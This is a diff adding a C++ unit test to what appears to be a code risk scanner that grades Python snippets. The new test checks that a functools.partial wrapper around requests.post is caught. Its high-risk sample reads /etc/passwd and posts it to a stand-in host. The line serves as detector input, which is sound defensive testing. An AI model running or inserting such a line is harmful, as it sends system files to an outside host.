@@ -41,3 +41,12 @@ TEST(AssessBindings, ATableGivenToACallIsNoAddress) {
   EXPECT_EQ(level("import socket\nADDR = ('', 8080)\ns = socket.socket()\ns.bind(ADDR)\ns.listen()\n"),
             RiskLevel::high);
 }
+
+TEST(AssessBindings, APartialThatBindsKeywordsIsTheFunction) {
+  EXPECT_EQ(level("import requests\nfrom functools import partial\npost = partial(requests.post, timeout=15)\n"
+                  "post('https://x.example/u', data=open('/etc/passwd').read())\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\nfrom functools import partial\npost = partial(requests.post, timeout=15)\n"
+                  "post('https://x.example/u', data=open('report.csv').read())\n"),
+            RiskLevel::medium);
+}
